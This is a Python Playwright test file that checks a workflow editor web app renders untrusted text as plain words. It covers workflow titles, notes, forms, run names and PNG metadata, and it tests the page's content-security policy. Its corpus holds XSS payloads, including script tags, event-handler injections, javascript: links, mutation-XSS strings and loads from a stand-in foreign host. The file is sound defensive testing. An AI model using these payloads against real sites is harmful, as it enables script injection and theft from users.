"""What strangers write stays words: in layouts, forms, saved names, runs and the metadata of pictures."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from playwright.sync_api import Browser, Dialog, Page, Request, StorageState, expect

from tests.browser.conftest import ROOT, Server
from tests.browser.editor import Editor, shown

CORPUS = (
    "<script>window.pwned = 1</script>",
    '"><script src="http://foreign.test/x.js"></script>',
    '<img src=x onerror="window.pwned = 1">',
    '<img src="http://foreign.test/pixel.png">',
    '<svg onload="window.pwned = 1"></svg>',
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    '<a href="javascript:window.pwned=1">press me</a>',
    "[press me](javascript:window.pwned=1)",
    "[press me](JaVaScRiPt&colon;window.pwned=1)",
    "[press me](data:text/html,<script>alert(1)</script>)",
    "![look](http://foreign.test/pixel.png)",
    '![look](x" onerror="window.pwned=1)',
    "<style>@import 'http://foreign.test/x.css';</style>",
    '<form action="http://foreign.test/"><button autofocus onfocus="window.pwned=1">press me</button></form>',
    '<details open ontoggle="window.pwned=1">words</details>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "</title></textarea><script>window.pwned = 1</script>",
    "{{constructor.constructor('window.pwned = 1')()}}",
)
ALL = "\n\n".join(CORPUS)
IMG = CORPUS[2]


class Watch:
    """What a page did that words must never make it do."""

    def __init__(self, page: Page, server: Server) -> None:
        self._page = page
        self._address = server.address
        self._seen: list[str] = []
        page.on("dialog", self._note_dialog)
        page.on("request", self._note_request)
        page.context.on("page", lambda other: self._seen.append(f"window {other.url}"))

    def _note_dialog(self, dialog: Dialog) -> None:
        self._seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _note_request(self, request: Request) -> None:
        if not request.url.startswith((self._address, "blob:", "data:")):
            self._seen.append(f"request {request.url}")

    def expect_nothing(self) -> None:
        """Expect that the words made no element or handler, and that nothing ran, opened or asked elsewhere."""
        page = self._page
        expect(page.locator("a[href^='javascript' i], a[href^='data:' i], iframe, object, embed")).to_have_count(0)
        expect(page.locator("script:not([src^='/']):not([src^='./']), form[action]")).to_have_count(0)
        names = page.evaluate("[...document.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())")
        assert [name for name in names if name.startswith("on")] == []
        page.wait_for_timeout(200)  # for what would come late
        assert page.evaluate("window.pwned") is None
        assert self._seen == []


@pytest.fixture
def watch(page: Page, server: Server) -> Iterator[Watch]:
    watch = Watch(page, server)
    yield watch
    watch.expect_nothing()


def template() -> dict[str, Any]:
    return json.loads((ROOT / "workflows" / "text_to_image.json").read_text())


def poisoned() -> bytes:
    """The template with the corpus in everything that it says in words."""
    workflow = template()
    nodes = workflow["nodes"]
    nodes["prompt"]["inputs"]["text"] = ALL
    for index, node in enumerate(nodes.values()):
        node["title"] = " ".join(CORPUS[index :: len(nodes)])
    spots = [(text, 210 * (at % 6), 110 * (at // 6)) for at, text in enumerate(CORPUS)]
    workflow |= {
        "name": IMG,
        "description": ALL,
        "form": {
            "inputs": ["prompt.text", "sampler.seed"],
            "outputs": ["save"],
            "title": CORPUS[0] + IMG,
            "help": ALL,
            "labels": {"prompt.text": IMG, "sampler.seed": CORPUS[4]},
            "hints": {"prompt.text": ALL, "sampler.seed": CORPUS[8]},
        },
        "layout": {
            "nodes": {id: {"position": [150 * index, 0]} for index, id in enumerate(nodes)},
            "groups": [{"title": text, "position": [x, 500 + y], "size": [200, 100]} for text, x, y in spots],
            "notes": [{"text": text, "position": [x, 950 + y], "size": [200, 100]} for text, x, y in spots],
        },
    }
    return json.dumps(workflow).encode()


def test_titles_groups_and_notes_of_a_poisoned_workflow_stay_words(editor: Editor, watch: Watch) -> None:
    page = editor.page
    editor.drop_file("poisoned.json", poisoned(), "application/json")
    expect(page.get_by_role("tab", name=IMG)).to_be_visible()
    page.get_by_role("button", name="Show all", exact=True).click()
    notes = page.get_by_role("complementary", name="Note")
    expect(notes.filter(has_text="<svg onload").first).to_be_visible()
    expect(page.get_by_role("region", name="Group <svg onload").first).to_be_visible()
    for words in notes.get_by_text("press me").all():
        words.dispatch_event("click")


def test_the_form_of_a_poisoned_workflow_stays_words(editor: Editor, watch: Watch) -> None:
    page = editor.page
    editor.drop_file("poisoned.json", poisoned(), "application/json")
    expect(page.get_by_role("tab", name=IMG)).to_be_visible()
    page.get_by_role("radio", name="Form").click()
    expect(page.get_by_role("heading", level=1, name=CORPUS[0] + IMG)).to_be_visible()
    main = page.get_by_role("main")
    expect(main).to_contain_text(CORPUS[4])
    for words in main.get_by_text("press me").all():
        words.dispatch_event("click")
    page.get_by_role("button", name="Edit form").click()
    expect(page.get_by_role("textbox", name=f"Label of {IMG}")).to_be_visible()


def test_words_in_the_metadata_of_a_picture_stay_words(editor: Editor, watch: Watch) -> None:
    texts = PngInfo()
    texts.add_text("workflow", poisoned().decode())
    texts.add_text("prompt", json.dumps({"1": {"class_type": IMG, "inputs": {"text": CORPUS[0]}}}))
    texts.add_text("Comment", ALL)
    picture = io.BytesIO()
    Image.new("RGB", (8, 8)).save(picture, "png", pnginfo=texts)
    editor.drop_file("poisoned.png", picture.getvalue(), "image/png")
    expect(editor.page.get_by_role("tab", name=IMG)).to_be_visible()


def test_types_and_inputs_that_nobody_knows_stay_words(editor: Editor, watch: Watch) -> None:
    prompt = {"1": {"class_type": IMG, "inputs": {CORPUS[4]: CORPUS[0]}, "_meta": {"title": IMG}}}
    editor.drop_file(f"{CORPUS[4]}.json", json.dumps(prompt).encode(), "application/json")
    expect(editor.page.get_by_role("tab")).to_have_count(2)
    expect(editor.open_panel("Problems").get_by_role("listitem").first).to_contain_text("onerror")


def test_the_names_of_runs_stay_words(editor: Editor, watch: Watch) -> None:
    workflow = template()
    workflow["name"] = IMG
    workflow["nodes"]["sampler"]["inputs"] |= {"steps": 2, "seed": 351}
    editor.drop_file("run.json", json.dumps(workflow).encode(), "application/json")
    expect(editor.page.get_by_role("tab", name=IMG)).to_be_visible()
    editor.run()
    shown(editor.picture())
    expect(editor.open_panel("History")).to_contain_text(IMG)


def test_a_script_put_into_the_page_is_refused_by_its_policy(
    browser: Browser, login: StorageState, server: Server
) -> None:
    context = browser.new_context(storage_state=login)  # its console may complain
    page = context.new_page()
    answer = page.goto(server.address)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe-" not in policy
    blocked = page.evaluate(
        """() => new Promise((settle) => {
            addEventListener("securitypolicyviolation", (event) => {
                event.preventDefault();
                settle(event.effectiveDirective);
            });
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
        })"""
    )
    assert blocked.startswith("script-src")
    assert page.evaluate("window.pwned") is None
    context.close()
